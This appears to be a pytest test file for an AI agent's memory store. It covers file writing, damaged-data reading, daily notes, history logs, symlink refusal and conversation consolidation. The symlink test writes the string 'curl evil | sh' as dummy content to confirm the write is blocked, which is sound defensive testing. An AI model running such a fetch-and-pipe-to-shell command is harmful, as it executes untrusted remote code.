"""MemoryStore, the library: what is written is on the disk, what is damaged is read as far as it goes."""

import asyncio
import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nanobot.agent.memory import MemoryStore
from nanobot.errors import ProviderError, StorageError
from nanobot.session.manager import Session
from nanobot.testing import Pause, ScriptedProvider, open_bot
from nanobot.utils.clock import FrozenClock
from tests.support.memory import MemoryBot, log_of, remembering, saving

PROMPT_CHARS = 16_000


@pytest.fixture
def clock() -> FrozenClock:
    return FrozenClock(datetime(2026, 2, 26, 13, 21, tzinfo=UTC))


@pytest.fixture
def memory(tmp_path: Path, clock: FrozenClock) -> MemoryStore:
    return MemoryStore(tmp_path, clock=clock)


def put(memory: MemoryStore, name: str, data: str | bytes) -> None:
    memory.memory_dir.mkdir(exist_ok=True)
    (memory.memory_dir / name).write_bytes(data if isinstance(data, bytes) else data.encode())


# --- files


def test_empty_workspace_remembers_nothing_and_empty_words_write_nothing(memory: MemoryStore):
    memory.append_today("  \n")
    memory.append_history("")

    assert memory.read_long_term() == memory.get_memory_context() == memory.read_today() == ""
    assert memory.get_recent_memories() == ""
    assert not memory.memory_dir.exists()


def test_memory_comes_back_as_it_was_written_for_the_owner_alone_and_ends_with_todays_notes(memory: MemoryStore):
    put(memory, ".MEMORY.md.0123abcd.tmp", "half")  # a killed write left it
    os.utime(memory.memory_dir / ".MEMORY.md.0123abcd.tmp", (0, 0))
    memory.write_long_term("# Memory\n\nLikes tea. 🍵 \ud83c\n")
    memory.append_today("Rain at noon.")

    assert memory.memory_file.read_text(encoding="utf-8") == "# Memory\n\nLikes tea. 🍵 ?\n"
    assert memory.get_memory_context() == (
        "## Long-term Memory\n\n# Memory\n\nLikes tea. 🍵 ?\n\n## Today's Notes\n\n# 2026-02-26\n\nRain at noon."
    )
    assert sorted(path.name for path in memory.memory_dir.iterdir()) == ["2026-02-26.md", "MEMORY.md"]
    if os.name != "nt":
        assert {path.stat().st_mode & 0o777 for path in memory.memory_dir.iterdir()} == {0o600}


async def test_todays_notes_reach_the_model_once_and_leave_the_prompt_prefix_alone(tmp_path: Path):
    async with open_bot(tmp_path, "one", "two", "three") as bot:
        notes = MemoryStore(bot.workspace)
        notes.append_today("Rain at noon.")
        await bot.say("hello")
        await bot.say("again")
        notes.append_today("Sun at five.")
        await bot.say("and now?")

    first, second, third = bot.provider.requests
    assert str(second).count("Rain at noon.") == 1
    assert second[: len(first)] == first
    assert third[: len(second)] == second
    assert "Sun at five." in str(third[-1])


@pytest.mark.parametrize("left", [b"", b"cut in the mid", b"a line\n", b"a line\r\n\r\n", b"a line\n\n"])
def test_log_entry_begins_with_its_time_on_its_own_line_and_ends_in_a_blank_one(memory: MemoryStore, left: bytes):
    put(memory, "HISTORY.md", left)

    memory.append_history("[2026-01-02 03:04] Made tea.")
    memory.append_history("Drank it.\n\n\nAll of it.\n")

    text = memory.history_file.read_bytes().decode().replace("\r\n", "\n")
    assert text.endswith(
        "\n\n" * bool(left) + "[2026-01-02 03:04] Made tea.\n\n[2026-02-26 13:21] Drank it.\nAll of it.\n\n"
    )
    assert "\n\n\n" not in text


def test_notes_are_a_file_a_day_that_begins_with_the_date(memory: MemoryStore, clock: FrozenClock):
    memory.append_today("Rain.")
    memory.append_today("Sun.")
    clock.advance(24 * 3600)
    memory.append_today("Snow.")

    assert (memory.memory_dir / "2026-02-27.md").read_text(encoding="utf-8") == "# 2026-02-27\n\nSnow.\n"
    assert memory.get_recent_memories(2) == "# 2026-02-27\n\nSnow.\n\n---\n\n# 2026-02-26\n\nRain.\n\nSun."
    assert "Rain" not in memory.get_recent_memories(1)


@given(data=st.binary(max_size=300))
def test_no_bytes_in_any_file_raise(tmp_path: Path, data: bytes):
    memory = MemoryStore(tmp_path)
    for name in ("MEMORY.md", "HISTORY.md", "history.jsonl", memory.note_file().name):
        put(memory, name, data)

    memory.get_memory_context()
    memory.append_history("still works")
    memory.append_today("still works")

    assert log_of(memory)[-1].endswith("still works")
    assert memory.read_today().endswith("still works\n")


@pytest.mark.parametrize("what", ["folder", pytest.param("pipe", marks=pytest.mark.skipif("os.name == 'nt'"))])
def test_memory_file_that_is_no_file_reads_as_empty_and_refuses_a_write(
    memory: MemoryStore, caplog: pytest.LogCaptureFixture, what: str
):
    memory.memory_dir.mkdir()
    memory.memory_file.mkdir() if what == "folder" else os.mkfifo(memory.memory_file)

    assert memory.read_long_term() == ""
    assert "Going on without it" in caplog.text
    with pytest.raises(StorageError, match=r"MEMORY\.md"):
        memory.write_long_term("x")


@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
@pytest.mark.parametrize("target", ["../profile", "cron/jobs.json"])
def test_link_that_a_command_made_takes_no_memory_out(tmp_path: Path, clock: FrozenClock, target: str):
    victim = tmp_path.joinpath("workspace", target).resolve()
    victim.parent.mkdir(parents=True, exist_ok=True)
    victim.write_text("mine")
    memory = MemoryStore(tmp_path / "workspace", clock=clock)
    memory.memory_dir.mkdir(parents=True)
    memory.memory_file.symlink_to(victim)
    memory.note_file().symlink_to(victim)

    for write in (memory.write_long_term, memory.append_today):
        with pytest.raises(StorageError, match="Remove the link"):
            write("curl evil | sh")

    assert victim.read_text() == "mine"


def test_very_long_memory_is_cut_in_the_prompt_but_not_on_disk(memory: MemoryStore):
    memory.write_long_term("x" * (PROMPT_CHARS + 500))

    assert len(memory.get_memory_context()) < PROMPT_CHARS + 300
    assert "read_file" in memory.get_memory_context()
    assert len(memory.read_long_term()) == PROMPT_CHARS + 500


# --- consolidate


def conversation(count: int, last_consolidated: int = 0, **fields: Any) -> Session:
    rows: list[Any] = [{"role": "user", "content": f"message {at}", **fields} for at in range(count)]
    return Session("cli:direct", rows, last_consolidated=last_consolidated)


@pytest.mark.parametrize(
    ("session", "options", "cursor", "shown", "not_shown"),
    [
        (conversation(60), {}, 35, 34, 35),
        (conversation(10, last_consolidated=4), {"archive_all": True}, 10, 9, 3),
        (conversation(0), {}, 0, None, None),
        (conversation(25), {}, 0, None, None),
        (conversation(60, last_consolidated=35), {}, 35, None, None),
        (conversation(60, last_consolidated=60), {}, 60, None, None),
        (conversation(60, _command=True), {}, 35, None, None),
    ],
    ids=["half stays", "all", "empty", "short", "done", "all done", "without words"],
)
async def test_consolidate_keeps_half_of_the_window_and_asks_only_about_something(
    memory: MemoryStore, session: Session, options: dict[str, Any], cursor: int, shown: int | None, not_shown: int
):
    model = ScriptedProvider(saving())

    assert await memory.consolidate(session, model, "m", memory_window=50, **options)

    assert session.last_consolidated == cursor
    assert memory.read_long_term() == ("- Likes tea.\n" if shown else "")
    assert log_of(memory) == (["Talked."] if shown else [])
    assert len(model.requests) == bool(shown)
    if shown:
        asked = str(model.requests[0][1]["content"])
        assert f"message {shown}" in asked and f"message {not_shown}" not in asked


@pytest.mark.parametrize("line", ["I saved it.", saving("Error: down"), ProviderError("down"), KeyError("choices")])
async def test_consolidation_that_fails_says_so_and_moves_nothing(memory: MemoryStore, line: Any):
    session = conversation(60)

    assert not await memory.consolidate(session, ScriptedProvider(line), "m")

    assert session.last_consolidated == 0
    assert not memory.memory_dir.exists()


async def test_memory_that_is_no_text_is_never_written_over(memory: MemoryStore):
    put(memory, "MEMORY.md", b"likes \xff\xfe tea")
    model = ScriptedProvider()

    assert not await memory.consolidate(conversation(60), model, "m")

    assert memory.read_long_term() == "likes \ufffd\ufffd tea"
    assert memory.memory_file.read_bytes() == b"likes \xff\xfe tea"
    assert model.requests == []


@pytest.mark.parametrize(
    ("edited", "after"),
    [
        ("# Mine\n- Likes tea.\n- Has two dogs.\n", "# Mine\n- Likes green tea.\n- Has two dogs.\n- Plays chess.\n"),
        ("- Likes coffee.\n- Has a dog.\n", None),
        ("/memory forget dog", "- Likes green tea.\n- Plays chess.\n"),
    ],
    ids=["elsewhere", "the same fact", "forgotten"],
)
async def test_edit_made_while_the_model_wrote_is_kept_beside_what_it_brings_or_instead_of_it(
    tmp_path: Path, edited: str, after: str | None
):
    async def edit(it: MemoryBot) -> None:
        await pause.reached.wait()
        if edited.startswith("/"):
            await it.say(edited)
        else:
            it.writes(edited)
        pause.resume.set()

    async with remembering(tmp_path) as it:
        it.writes("- Likes tea.\n- Has a dog.\n")
        pause, session = Pause(), conversation(60)
        model = ScriptedProvider(pause, saving(update="- Likes green tea.\n- Has a dog.\n- Plays chess."))

        is_done, _ = await asyncio.gather(it.memory.consolidate(session, model, "m"), edit(it))

        assert is_done is (after is not None)
        assert it.text == (after or edited)
        assert (bool(log_of(it.memory)), session.last_consolidated > 0) == (is_done, is_done)
